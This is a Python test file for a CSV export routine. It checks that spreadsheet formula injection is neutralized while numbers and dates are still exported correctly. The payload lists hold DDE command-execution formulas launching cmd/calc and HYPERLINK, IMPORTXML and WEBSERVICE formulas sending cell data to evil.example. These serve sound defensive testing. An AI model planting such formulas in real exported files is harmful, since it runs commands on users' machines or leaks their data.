"""Tables for spreadsheets: nothing of a record is run by one, numbers stay numbers, and what comes back is what went out."""

from __future__ import annotations

import csv
import io
import re
import string
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cds.board.export import csv_of, guarded

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=SUM(A1:A9)", "=A1", "= 1", "=\t1", "==1", "=@SUM(1)",
    "+1+1", "+cmd|' /C calc'!A0", "+A1", "+ 49 89 1234", "++1", "+SUM(1)",
    "-1+1", "-cmd|' /C calc'!A0", "-A1", "--1", "-(1)", "- 1", "-@SUM(1)", "-1e5", "-1,5", "-",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "@", "@@x",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\tx", "\rx", "\t", "\r",
    " =1+1", "   +A1", "\u00a0=1+1", "\u2009=1", "\u3000=1", " \t =1",
    "\"=1+1", "'=1+1", "\"\"=1+1\"", "\" =1+1", "' \"=1", "`=1", "“=1+1”", "‘=1", "'+A1", "\"@SUM(1)",
    "\ufeff=1+1", "\u200b=1+1", "\u200e=1+1", "\x00=1+1", "\x1b=1", "\u00ad=1", "\u202e=1", "\u2066+A1",
    "＝1+1", "＋A1", "－A1", "＠SUM(1)", "−A1", " ＝1", "|calc", "=\u0000cmd",
    "=1;=2", "=" + "A" * 5000,
]  # fmt: skip
WITHIN = [
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n@SUM(1)",
    "a; =1",
    'a,"=1',
    "a;+A1",
    "a;-A1",
    "x\n\n=1",
    "a;＝1",
    "a, @A1",
    "x;-2+3+cmd|' /C calc'!A0;y",
    "x;-1e5",
    "x;−A1",
    "x,－A1",
    "x\t|calc",
    "x; -(1)",
]
"""Where another setting of the same spreadsheet takes a cell to begin."""


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def cells_between(data: bytes, delimiter: str) -> list[str]:
    """What a spreadsheet sees that takes another sign for the end of a cell."""
    found = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter)
    return [cell for row in found for cell in row]


def runs(cell: str) -> bool:
    """Whether a spreadsheet would run the cell: the sign stands first, whatever white space, quotes or unseen signs precede it."""
    seen = cell.lstrip(string.whitespace + '\u00a0\u2009\u3000"`“”‘’\ufeff\u200b\u200e\x00\x1b\u00ad\u202e\u2066')
    return seen[:1] in ("=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "|") or cell[:1] in ("\t", "\r")


def test_there_are_payloads_enough() -> None:
    assert len(set(FORMULAS)) + len(set(WITHIN)) >= 60


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    ((cell,),) = cells(csv_of([text], []))
    assert cell.startswith("'")
    assert not runs(cell)
    ((_, cell),) = cells(csv_of(["x", text], []))
    assert not runs(cell)


@pytest.mark.parametrize("text", WITHIN)
def test_a_formula_behind_another_separator_becomes_a_text(text: str) -> None:
    data = csv_of(["x", "a"], [["x", text]])  # in a second column no quotation mark stands at the begin of the line
    for delimiter in ",;\t":
        assert not any(runs(cell) for cell in cells_between(data, delimiter)), (text, delimiter)
    (_, (_, cell)) = cells(data)
    for line in cell.replace("\r", "\n").split("\n"):
        assert not runs(line) or not line


@pytest.mark.parametrize("text", FORMULAS + WITHIN)
def test_a_guarded_text_stays_as_it_is_when_guarded_again(text: str) -> None:
    assert not runs(guarded(guarded(text)))


@pytest.mark.parametrize(
    "text",
    ["", "Berger, Anna", "Müller-Lüdenscheidt", "山田", "5.6 10*6/mL", "<0.5 pg/mL", "3.32 ×", "2025-04-21", "a - b", "x=1", "a@b.example",
     "HER2+", "TGF-β1", "(=)", "% of vesicles", "TRPC5-EV, cytotoxic chemotherapy", "from 5 to -3", "day -17", "first; -5 days"],
)  # fmt: skip
def test_an_ordinary_text_is_left_alone(text: str) -> None:
    assert guarded(text) == text


def test_numbers_stay_numbers_and_days_days() -> None:
    data = csv_of(["a", "b", "c", "d", "e", "f"], [[-17, -0.5, Decimal("1.80"), "-17", date(2025, 4, 21), None]])
    assert data.decode("utf-8-sig").splitlines()[1] == '-17,-0.5,1.80,"-17","2025-04-21",""'
    assert cells(csv_of(["a"], [["-5.25"], ["12"], [True]]))[1:] == [["-5.25"], ["12"], ["True"]]


def test_it_is_what_spreadsheets_read() -> None:
    data = csv_of(["Name", "Wert"], [['Anna "die" Ältere', "a\nb"], ["x", "y"]])
    assert data.startswith(b"\xef\xbb\xbf")  # else umlauts are garbled
    assert data.count(b"\r\n") == 3
    assert cells(data) == [["Name", "Wert"], ['Anna "die" Ältere', "a\nb"], ["x", "y"]]


@given(st.lists(st.lists(st.text(max_size=20), min_size=3, max_size=3), max_size=5))
def test_whatever_goes_in_no_cell_runs(rows: list[list[str]]) -> None:
    data = csv_of(["a", "b", "c"], rows)
    found = cells(data)
    assert [len(row) for row in found] == [3] * (len(rows) + 1)
    for row in found[1:]:
        for cell in row:
            number = cell.removeprefix("-").replace(".", "", 1).isdigit()
            assert number or not runs(cell), repr(cell)


@given(st.text(alphabet="=+-@;,\t\r\n\"' a1＝", max_size=12))
def test_no_sign_hides_behind_others(text: str) -> None:
    data = csv_of(["x", "a"], [["x", text]])
    for delimiter in ",;\t":
        for cell in cells_between(data, delimiter):  # white space runs nothing by itself
            number = re.fullmatch(r"-\d+(\.\d+)?( [a-z]+)?", cell.strip("\"'"))  # and what is counted by it
            assert number or not runs(cell.strip()), (text, delimiter, cell)
